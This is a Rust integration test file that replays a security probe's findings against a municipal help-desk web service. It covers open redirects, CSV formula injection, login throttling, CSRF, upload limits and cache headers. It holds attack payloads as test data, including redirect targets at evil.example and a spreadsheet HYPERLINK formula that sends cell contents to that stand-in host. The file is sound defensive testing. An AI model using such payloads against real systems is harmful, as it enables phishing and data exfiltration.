//! The outside probe's findings (issue #13 §3), each replayed as the attack it was: open
//! redirect after login, CSV formula injection, permanent one-time passwords, lock-out by
//! anyone, unbounded files per upload, caching and transport headers, empty-in-disguise
//! text, a reply racing a close, forms without CSRF and non-ASCII download names.

use std::time::Duration;

use pico_node::auth::{Module, Role, secrets};
use pico_node::db;
use pico_protocol::ComuneCode;
use pico_service::Db;
use reqwest::header::{CACHE_CONTROL, CONTENT_DISPOSITION, LOCATION, RETRY_AFTER};
use reqwest::{Client, Response, StatusCode};
use serde_json::{Value, json};

use crate::helpers::{
    TestApp, add_user, assert_problem, config_for, form_csrf, init_dir, login, password_of,
};
use crate::sua_helpers::Sua;

const TREVISO: &str = "026086";

fn browser() -> Client {
    Client::builder()
        .cookie_store(true)
        .redirect(reqwest::redirect::Policy::none())
        .build()
        .unwrap()
}

/// A login through the form (fetching the form first, for its CSRF cookie), from `source`
/// (sent as `X-Forwarded-For`; the tests that use it trust the header).
async fn try_login(
    app: &TestApp,
    client: &Client,
    username: &str,
    password: &str,
    next: &str,
    source: &str,
) -> Response {
    let page = client
        .get(app.url("/login"))
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    client
        .post(app.url("/login"))
        .header("x-forwarded-for", source)
        .form(&[
            ("csrf", form_csrf(&page).as_str()),
            ("next", next),
            ("username", username),
            ("password", password),
        ])
        .send()
        .await
        .unwrap()
}

fn location(response: &Response) -> &str {
    response.headers()[LOCATION].to_str().unwrap()
}

// 1. Open redirect after login.

#[tokio::test]
async fn login_goes_back_only_to_a_path_of_this_site() {
    let app = TestApp::spawn("026").await;
    add_user(&app.config, "boss", &Role::Admin);
    let attacks = [
        "/\t/evil.example",
        "/\r\n/evil.example",
        "//evil.example",
        "/\\evil.example",
        "https://evil.example/",
    ];
    for next in attacks {
        // The link an attacker sends: the form must not carry the value on.
        let client = browser();
        let link = format!("/login?next={}", pico_node::web::query_value(next));
        let page = client
            .get(app.url(&link))
            .send()
            .await
            .unwrap()
            .text()
            .await
            .unwrap();
        assert!(
            page.contains(r#"name="next" value="/dashboard""#),
            "{next:?}"
        );
        // And a crafted post is sent to the dashboard, not away (nor a 500 with a cookie).
        let response = try_login(
            &app,
            &client,
            "boss",
            &password_of("boss"),
            next,
            "10.0.0.1",
        )
        .await;
        assert_eq!(response.status(), StatusCode::SEE_OTHER, "{next:?}");
        assert_eq!(location(&response), "/dashboard", "{next:?}");
    }
    let client = browser();
    let response = try_login(
        &app,
        &client,
        "boss",
        &password_of("boss"),
        "/helpdesk?status=new",
        "10.0.0.1",
    )
    .await;
    assert_eq!(location(&response), "/helpdesk?status=new");
    // A page that needs a login sends there with its path and query, percent-encoded.
    let anonymous = browser()
        .get(app.url("/helpdesk?status=new"))
        .send()
        .await
        .unwrap();
    assert_eq!(location(&anonymous), "/login?next=/helpdesk%3Fstatus%3Dnew");
}

// 2. CSV formula injection.

const HYPERLINK: &str = r#"=HYPERLINK("http://evil.example/?x="&A1,"Apri")"#;

#[tokio::test]
async fn help_desk_export_neutralises_formulas() {
    let app = TestApp::spawn("026").await;
    let admin = add_user(&app.config, "boss", &Role::Admin);
    let tv = add_user(
        &app.config,
        "tv",
        &Role::Comune(ComuneCode::parse(TREVISO).unwrap()),
    );
    for subject in [HYPERLINK, "+1+1", "-2+3", "@SUM(1;2)"] {
        app.open_request(&tv, subject).await;
    }
    let api = app
        .get(
            "/v1/helpdesk/requests/export.csv?sep=semicolon",
            Some(&admin),
        )
        .await;
    assert_eq!(api.headers()[CACHE_CONTROL], "no-store");
    let api = api.text().await.unwrap();
    let session = login(&app, "boss").await;
    let page = session.page("/helpdesk/export.csv?sep=semicolon").await;
    for csv in [&api, &page] {
        assert!(
            csv.starts_with("\u{feff}Numero;Codice ISTAT Comune;"),
            "{csv}"
        );
        let mut reader = ::csv::ReaderBuilder::new()
            .delimiter(b';')
            .from_reader(csv.trim_start_matches('\u{feff}').as_bytes());
        let subjects: Vec<String> = reader
            .records()
            .map(|record| record.unwrap()[4].to_owned())
            .collect();
        assert_eq!(
            subjects,
            ["'@SUM(1;2)", "'-2+3", "'+1+1", &format!("'{HYPERLINK}")],
            "{csv}"
        );
    }
}

// 3. One-time passwords.

/// Runs `pico-node --data-dir … args…` in process.
fn cli(app: &TestApp, args: &[&str]) {
    use clap::Parser as _;
    let mut argv = vec![
        "pico-node".to_owned(),
        "--data-dir".to_owned(),
        app.config.data_dir.display().to_string(),
    ];
    argv.extend(args.iter().map(|arg| (*arg).to_owned()));
    pico_node::cli::execute(pico_node::cli::Cli::parse_from(argv)).unwrap();
}

fn token_for(app: &TestApp, username: &str) -> String {
    let db = Db::open_existing(&app.config.db_path(), db::MIGRATIONS, 1).unwrap();
    let conn = db.get().unwrap();
    let user = db::people::user_by_name(&conn, username).unwrap().unwrap();
    let token = secrets::new_api_token();
    db::people::insert_token(
        &conn,
        &secrets::sha256_hex(&token),
        user.id,
        "test",
        db::now(),
        db::now() + 3600,
    )
    .unwrap();
    token
}

#[tokio::test]
async fn a_one_time_password_must_be_changed_before_anything_else() {
    let app = TestApp::spawn("026").await;
    let file = app.dir.path().join("password.txt");
    let one_time = "provvisoria-0123";
    std::fs::write(&file, format!("{one_time}\n")).unwrap();
    cli(
        &app,
        &[
            "user",
            "add",
            "mario",
            "--name",
            "Mario Rossi",
            "--role",
            "admin",
            "--password-file",
            file.to_str().unwrap(),
        ],
    );
    let token = token_for(&app, "mario");

    // Signed in with it, every page leads to the change form, and the API refuses.
    let client = browser();
    let response = try_login(&app, &client, "mario", one_time, "/helpdesk", "10.0.0.1").await;
    assert_eq!(location(&response), "/account/password");
    let dashboard = client.get(app.url("/dashboard")).send().await.unwrap();
    assert_eq!(dashboard.status(), StatusCode::SEE_OTHER);
    assert_eq!(location(&dashboard), "/account/password");
    let refused = assert_problem(
        app.get("/v1/helpdesk/requests", Some(&token)).await,
        StatusCode::FORBIDDEN,
    )
    .await;
    assert_eq!(refused["code"], "password_change_required");
    assert_eq!(
        app.get("/v1/me", Some(&token)).await.status(),
        StatusCode::OK
    );

    // A second session, say on another computer.
    let other = browser();
    try_login(&app, &other, "mario", one_time, "/dashboard", "10.0.0.2").await;

    // The form refuses bad choices with Italian messages beside the fields.
    let form = client
        .get(app.url("/account/password"))
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    let csrf = form_csrf(&form);
    let change = |current: &str, new: &str, repeat: &str| {
        client
            .post(app.url("/account/password"))
            .form(&[
                ("csrf", csrf.as_str()),
                ("current_password", current),
                ("new_password", new),
                ("new_password_repeat", repeat),
            ])
            .send()
    };
    let cases = [
        (one_time, "corta", "corta", "almeno 12 caratteri"),
        (one_time, one_time, one_time, "diversa da quella attuale"),
        (
            one_time,
            "una frase lunga e nuova",
            "un'altra frase",
            "non coincidono",
        ),
        (
            "sbagliata",
            "una frase lunga e nuova",
            "una frase lunga e nuova",
            "attuale non è corretta",
        ),
    ];
    for (current, new, repeat, message) in cases {
        let page = change(current, new, repeat).await.unwrap();
        assert_eq!(page.status(), StatusCode::UNPROCESSABLE_ENTITY, "{message}");
        let html = page.text().await.unwrap();
        assert!(html.contains(message), "{message}: {html}");
        assert!(!html.contains(new), "a password was written back");
    }
    let done = change(
        one_time,
        "una frase lunga e nuova",
        "una frase lunga e nuova",
    )
    .await
    .unwrap();
    assert_eq!(done.status(), StatusCode::SEE_OTHER);
    assert_eq!(location(&done), "/dashboard");
    assert_eq!(
        client
            .get(app.url("/dashboard"))
            .send()
            .await
            .unwrap()
            .status(),
        StatusCode::OK
    );
    assert_eq!(
        app.get("/v1/helpdesk/requests", Some(&token))
            .await
            .status(),
        StatusCode::OK
    );
    // The other session ended; the one-time password no longer works; the new one does.
    let ended = other.get(app.url("/dashboard")).send().await.unwrap();
    assert!(location(&ended).starts_with("/login"));
    let old = try_login(
        &app,
        &browser(),
        "mario",
        one_time,
        "/dashboard",
        "10.0.0.3",
    )
    .await;
    assert_eq!(old.status(), StatusCode::UNAUTHORIZED);
    let new = try_login(
        &app,
        &browser(),
        "mario",
        "una frase lunga e nuova",
        "/dashboard",
        "10.0.0.3",
    )
    .await;
    assert_eq!(location(&new), "/dashboard");

    // An administrator's reset makes it one-time again; the API changes it too.
    std::fs::write(&file, "di nuovo provvisoria\n").unwrap();
    cli(
        &app,
        &[
            "user",
            "reset-password",
            "mario",
            "--password-file",
            file.to_str().unwrap(),
        ],
    );
    assert_eq!(
        app.get("/v1/helpdesk/requests", Some(&token))
            .await
            .status(),
        StatusCode::FORBIDDEN
    );
    let wrong = assert_problem(
        app.post_json(
            "/v1/me/password",
            Some(&token),
            &json!({"current_password": "no", "new_password": "mario"}),
        )
        .await,
        StatusCode::UNPROCESSABLE_ENTITY,
    )
    .await;
    assert!(wrong["errors"]["current_password"].is_string(), "{wrong}");
    assert!(wrong["errors"]["new_password"].is_string(), "{wrong}");
    let changed = app
        .post_json(
            "/v1/me/password",
            Some(&token),
            &json!({"current_password": "di nuovo provvisoria", "new_password": "ancora un'altra frase"}),
        )
        .await;
    assert_eq!(changed.status(), StatusCode::NO_CONTENT);
    assert_eq!(
        app.get("/v1/helpdesk/requests", Some(&token))
            .await
            .status(),
        StatusCode::OK
    );

    // `--no-change` (for demos) sets a password that is not one-time.
    std::fs::write(&file, "password della demo\n").unwrap();
    cli(
        &app,
        &[
            "user",
            "add",
            "demo",
            "--name",
            "Demo",
            "--role",
            "admin",
            "--password-file",
            file.to_str().unwrap(),
            "--no-change",
        ],
    );
    let demo = try_login(
        &app,
        &browser(),
        "demo",
        "password della demo",
        "/dashboard",
        "10.0.0.4",
    )
    .await;
    assert_eq!(location(&demo), "/dashboard");
}

#[test]
fn init_makes_the_first_administrator_password_one_time() {
    let (_dir, config) = init_dir("026");
    let db = Db::open_existing(&config.db_path(), db::MIGRATIONS, 1).unwrap();
    let admin = db::people::user_by_name(&db.get().unwrap(), "admin")
        .unwrap()
        .unwrap();
    assert!(admin.must_change_password);
}

// 4. Throttling without lock-out.

async fn spawn_behind_proxy() -> TestApp {
    let dir = tempfile::tempdir().unwrap();
    let mut config = config_for(dir.path().join("data"));
    config.http.trust_forwarded_for = true;
    pico_node::cli::init(&config, "026").unwrap();
    TestApp::start(dir, config).await
}

#[tokio::test]
async fn failures_slow_the_attacker_down_but_never_lock_the_owner_out() {
    let app = spawn_behind_proxy().await;
    add_user(&app.config, "boss", &Role::Admin);
    let attacker = browser();
    let mut statuses = Vec::new();
    for _ in 0..6 {
        let response = try_login(&app, &attacker, "boss", "indovino", "/", "198.51.100.7").await;
        statuses.push(response.status());
    }
    // Three free failures, then each attempt waits (429 with Retry-After).
    assert_eq!(&statuses[..3], [StatusCode::UNAUTHORIZED; 3]);
    assert_eq!(statuses[3], StatusCode::TOO_MANY_REQUESTS);
    let throttled = try_login(
        &app,
        &attacker,
        "boss",
        &password_of("boss"),
        "/",
        "198.51.100.7",
    )
    .await;
    assert_eq!(throttled.status(), StatusCode::TOO_MANY_REQUESTS);
    let wait: u64 = throttled.headers()[RETRY_AFTER]
        .to_str()
        .unwrap()
        .parse()
        .unwrap();
    assert!((1..=2).contains(&wait), "{wait}");
    assert!(
        throttled
            .text()
            .await
            .unwrap()
            .contains("Troppi tentativi non riusciti")
    );

    // The owner, from its own address, logs in at once.
    let owner = try_login(
        &app,
        &browser(),
        "boss",
        &password_of("boss"),
        "/",
        "203.0.113.5",
    )
    .await;
    assert_eq!(owner.status(), StatusCode::SEE_OTHER);

    // And the attacker's address too, once the wait is over.
    tokio::time::sleep(Duration::from_secs(wait + 1)).await;
    let later = try_login(
        &app,
        &attacker,
        "boss",
        &password_of("boss"),
        "/",
        "198.51.100.7",
    )
    .await;
    assert_eq!(later.status(), StatusCode::SEE_OTHER);
}

#[tokio::test]
async fn a_database_failure_at_login_is_a_500_not_bad_credentials() {
    let app = TestApp::spawn("026").await;
    add_user(&app.config, "boss", &Role::Admin);
    let conn = rusqlite::Connection::open(app.config.db_path()).unwrap();
    conn.execute_batch("DROP TABLE login_failures").unwrap();
    let response = try_login(&app, &browser(), "boss", "sbagliata", "/", "10.0.0.1").await;
    assert_eq!(response.status(), StatusCode::INTERNAL_SERVER_ERROR);
    assert!(response.headers().get("set-cookie").is_none());
    let page = response.text().await.unwrap();
    assert!(!page.contains("non validi"), "{page}");
}

// 5. Files per request and per record.

#[tokio::test]
async fn files_per_request_and_per_record_are_bounded() {
    let sua = Sua::spawn().await;
    let app = &sua.app;
    let id = sua.submit(&sua.tv).await;
    let session = login(app, "comune.treviso").await;
    let post = |files: usize| {
        let mut form = reqwest::multipart::Form::new().text("csrf", session.csrf.clone());
        for n in 0..files {
            form = form.part(
                "attachments",
                reqwest::multipart::Part::bytes(b"%PDF-1.4 x".to_vec())
                    .file_name(format!("atto-{n}.pdf"))
                    .mime_str("application/pdf")
                    .unwrap(),
            );
        }
        session
            .client
            .post(app.url(&format!("/sua/procedure/{id}/allegati")))
            .multipart(form)
            .send()
    };
    let stored = || async {
        sua.get(
            &format!("/v1/sua/procedures/{id}/attachments"),
            Some(&sua.admin),
        )
        .await
        .1
        .as_array()
        .map_or_else(|| panic!("not a list"), Vec::len)
    };
    // The probe's 60 files, then one past the limit: refused, nothing stored.
    for files in [60, pico_node::upload::MAX_FILES_PER_REQUEST + 1] {
        let refused = post(files).await.unwrap();
        assert_eq!(
            refused.status(),
            StatusCode::UNPROCESSABLE_ENTITY,
            "{files}"
        );
        assert!(refused.text().await.unwrap().contains("massimo 10 file"));
        assert_eq!(stored().await, 0);
    }
    // At the limit: accepted.
    let accepted = post(pico_node::upload::MAX_FILES_PER_REQUEST)
        .await
        .unwrap();
    assert_eq!(accepted.status(), StatusCode::SEE_OTHER);
    assert_eq!(stored().await, 10);

    // Per record: the Help Desk takes files one per call, up to the record's limit.
    let tv = add_user(
        &app.config,
        "tv.hd",
        &Role::Comune(ComuneCode::parse(TREVISO).unwrap()),
    );
    let request = app.open_request(&tv, "Allegati").await;
    let attach_path = format!("/v1/helpdesk/requests/{request}/attachments?filename=a.txt");
    let attach = || app.post_raw(&attach_path, &tv, "text/plain", b"x".to_vec());
    for _ in 0..pico_node::upload::MAX_FILES_PER_RECORD {
        assert_eq!(attach().await.status(), StatusCode::CREATED);
    }
    let refused = assert_problem(attach().await, StatusCode::UNPROCESSABLE_ENTITY).await;
    assert_eq!(refused["code"], "too_many_files");
    let detail: Value = app
        .get(&format!("/v1/helpdesk/requests/{request}"), Some(&tv))
        .await
        .json()
        .await
        .unwrap();
    assert_eq!(
        detail["attachments"].as_array().unwrap().len(),
        pico_node::upload::MAX_FILES_PER_RECORD
    );
}

// 6. Caching and transport.

#[tokio::test]
async fn private_answers_are_not_stored_and_https_gets_hsts() {
    let (dir, mut config) = init_dir("026");
    config.public_url = "https://provincia.example.it".to_owned();
    let app = TestApp::start(dir, config).await;
    let admin = add_user(&app.config, "boss", &Role::Admin);
    let session = login(&app, "boss").await;
    let dashboard = session.get("/dashboard").await;
    let me = app.get("/v1/me", Some(&admin)).await;
    for response in [&dashboard, &me] {
        assert_eq!(response.headers()[CACHE_CONTROL], "no-store");
        assert_eq!(
            response.headers()["strict-transport-security"],
            "max-age=31536000; includeSubDomains"
        );
    }
    let asset = app
        .get(
            &pico_service::web::asset_url("bootstrap-italia/css/bootstrap-italia.min.css"),
            None,
        )
        .await;
    assert_eq!(asset.status(), StatusCode::OK);
    assert_eq!(
        asset.headers()[CACHE_CONTROL],
        "public, max-age=31536000, immutable"
    );

    // Over plain http (a LAN, tests) there is no HSTS.
    let plain = TestApp::spawn("026").await;
    let response = plain.get("/v1/comuni", None).await;
    assert!(
        response
            .headers()
            .get("strict-transport-security")
            .is_none()
    );
    assert_eq!(response.headers()[CACHE_CONTROL], "no-store");
}

// 7. Empty-in-disguise text.

#[tokio::test]
async fn control_characters_are_not_text() {
    let app = TestApp::spawn("026").await;
    let tv = add_user(
        &app.config,
        "tv",
        &Role::Comune(ComuneCode::parse(TREVISO).unwrap()),
    );
    let refused = assert_problem(
        app.post_json(
            "/v1/helpdesk/requests",
            Some(&tv),
            &json!({"category": "technical", "subject": "\u{0}\u{7}\u{1b}", "description": "\u{0}\u{7}\u{1b}"}),
        )
        .await,
        StatusCode::UNPROCESSABLE_ENTITY,
    )
    .await;
    assert!(
        refused["errors"]["subject"]
            .as_str()
            .unwrap()
            .contains("caratteri di controllo"),
        "{refused}"
    );
    let list: Value = app
        .get("/v1/helpdesk/requests", Some(&tv))
        .await
        .json()
        .await
        .unwrap();
    assert_eq!(list["items"], json!([]));
    // Blanks and invisible characters only: empty.
    let empty = assert_problem(
        app.post_json(
            "/v1/helpdesk/requests",
            Some(&tv),
            &json!({"category": "technical", "subject": " \u{200b} ", "description": "Testo"}),
        )
        .await,
        StatusCode::UNPROCESSABLE_ENTITY,
    )
    .await;
    assert_eq!(empty["errors"]["subject"], "Campo obbligatorio");
}

// 8. A reply racing a close.

/// A JSON post that owns what it needs, to run on its own task.
async fn post_owned(url: String, token: String, body: Value) -> Response {
    Client::new()
        .post(url)
        .bearer_auth(token)
        .json(&body)
        .send()
        .await
        .unwrap()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn a_reply_racing_a_close_never_lands_on_the_closed_request() {
    let app = TestApp::spawn("026").await;
    let admin = add_user(&app.config, "boss", &Role::Admin);
    let tv = add_user(
        &app.config,
        "tv",
        &Role::Comune(ComuneCode::parse(TREVISO).unwrap()),
    );
    let mut requests = Vec::new();
    for n in 0..12 {
        requests.push(app.open_request(&tv, &format!("Richiesta {n}")).await);
    }
    // Every close and every reply at once, on their own tasks and connections.
    let mut closes = tokio::task::JoinSet::new();
    let mut replies = tokio::task::JoinSet::new();
    for &id in &requests {
        let path = |tail: &str| app.url(&format!("/v1/helpdesk/requests/{id}/{tail}"));
        for n in 0..4 {
            let body = json!({"body": format!("Risposta {n}")});
            replies.spawn(post_owned(path("comments"), tv.clone(), body));
        }
        closes.spawn(post_owned(
            path("transitions"),
            admin.clone(),
            json!({"status": "closed"}),
        ));
    }
    for close in closes.join_all().await {
        assert_eq!(close.status(), StatusCode::OK);
    }
    for reply in replies.join_all().await {
        match reply.status() {
            StatusCode::CREATED => {}
            StatusCode::CONFLICT => {
                let body: Value = reply.json().await.unwrap();
                assert_eq!(body["code"], "request_closed");
                assert!(body["detail"].as_str().unwrap().contains("chiusa"));
            }
            other => panic!("unexpected {other}"),
        }
    }
    // The audit log orders what happened: no comment after a request's close, and every
    // request stays closed.
    let conn = rusqlite::Connection::open(app.config.db_path()).unwrap();
    let late: i64 = conn
        .query_row(
            "SELECT count(*) FROM audit_log c JOIN audit_log t ON t.resource = c.resource \
             WHERE c.action = 'helpdesk.comment' AND t.action = 'helpdesk.transition' \
             AND t.detail LIKE '%\"closed\"%' AND c.id > t.id",
            [],
            |row| row.get(0),
        )
        .unwrap();
    assert_eq!(late, 0);
    for &id in &requests {
        let detail: Value = app
            .get(&format!("/v1/helpdesk/requests/{id}"), Some(&admin))
            .await
            .json()
            .await
            .unwrap();
        assert_eq!(detail["request"]["status"], "closed");
    }
}

// 9. Forms without CSRF, non-ASCII download names.

#[tokio::test]
async fn a_form_without_csrf_is_a_403_page_and_downloads_name_files_in_utf8() {
    let app = TestApp::spawn("026").await;
    add_user(&app.config, "boss", &Role::Admin);
    let tv = add_user(
        &app.config,
        "tv",
        &Role::Comune(ComuneCode::parse(TREVISO).unwrap()),
    );
    let id = app.open_request(&tv, "Allegato").await;
    let session = login(&app, "boss").await;
    for (path, form) in [
        (format!("/helpdesk/{id}/comments"), vec![("body", "ciao")]),
        (format!("/helpdesk/{id}/status"), vec![("status", "closed")]),
        ("/logout".to_owned(), vec![]),
    ] {
        let response = session
            .client
            .post(app.url(&path))
            .header("accept", "text/html")
            .form(&form)
            .send()
            .await
            .unwrap();
        assert_eq!(response.status(), StatusCode::FORBIDDEN, "{path}");
        assert!(
            response.headers()["content-type"]
                .to_str()
                .unwrap()
                .starts_with("text/html"),
            "{path}"
        );
    }

    let name = "Verbale di gara – Città di Castelfranco.pdf";
    let attached = app
        .post_raw(
            &format!(
                "/v1/helpdesk/requests/{id}/attachments?filename={}",
                pico_node::web::query_value(name)
            ),
            &tv,
            "application/pdf",
            b"%PDF-1.4".to_vec(),
        )
        .await;
    assert_eq!(attached.status(), StatusCode::CREATED);
    let attachment: Value = attached.json().await.unwrap();
    let download = app
        .get(
            &format!(
                "/v1/helpdesk/requests/{id}/attachments/{}",
                attachment["id"]
            ),
            Some(&tv),
        )
        .await;
    let disposition = download.headers()[CONTENT_DISPOSITION]
        .to_str()
        .unwrap()
        .to_owned();
    assert_eq!(
        disposition,
        "attachment; filename=\"Verbale di gara  Citt_ di Castelfranco.pdf\"; \
         filename*=UTF-8''Verbale%20di%20gara%20%20Citt%C3%A0%20di%20Castelfranco.pdf"
    );
    assert!(disposition.is_ascii());
    assert_eq!(download.headers()[CACHE_CONTROL], "no-store");
}

#[tokio::test]
async fn operators_of_other_modules_see_the_password_page_too() {
    // Every user, whatever the role, reaches its own password page.
    let app = TestApp::spawn("026").await;
    add_user(&app.config, "dati", &Role::Operator(Module::Dati));
    let session = login(&app, "dati").await;
    let page = session.get("/account/password").await;
    assert_eq!(page.status(), StatusCode::OK);
    assert!(page.text().await.unwrap().contains("Cambia password"));
}
